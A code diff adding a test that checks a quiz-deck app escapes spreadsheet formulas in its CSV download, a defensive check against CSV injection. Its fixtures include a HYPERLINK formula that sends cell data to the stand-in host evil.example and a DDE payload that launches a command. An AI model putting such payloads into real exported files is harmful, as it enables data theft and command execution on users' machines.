@@ -435,6 +435,20 @@ def test_downloads_hold_the_approved_questions_with_edits(app, teacher, db):
         assert any(name.startswith("collection.anki") for name in package.namelist())
 
 
+def test_a_teachers_formula_reaches_the_downloaded_csv_as_text(app, teacher, db):
+    slug = built_deck(app, teacher)
+    kept, *_ = review_ids(teacher, slug)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    response = teacher.post(f"/teach/decks/{slug}/review/{kept}/edit", headers=HX, data={
+        "prompt": "+cmd|' /C calc'!A0 when?", "answer": formula, "accepted": "", "distractors": "@SUM(1+1)"})
+    assert response.status_code == 200
+    with teacher.get(f"/decks/{slug}/download.csv") as response:
+        [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert row["answer"] == "'" + formula
+    assert row["prompt"] == "'+cmd|' /C calc'!A0 when?"
+    assert row["distractors"].startswith("'@SUM")
+
+
 def test_teacher_index_lists_decks_with_their_counts(app, teacher):
     slug = built_deck(app, teacher)
     page = teacher.get("/teach/").get_data(as_text=True)
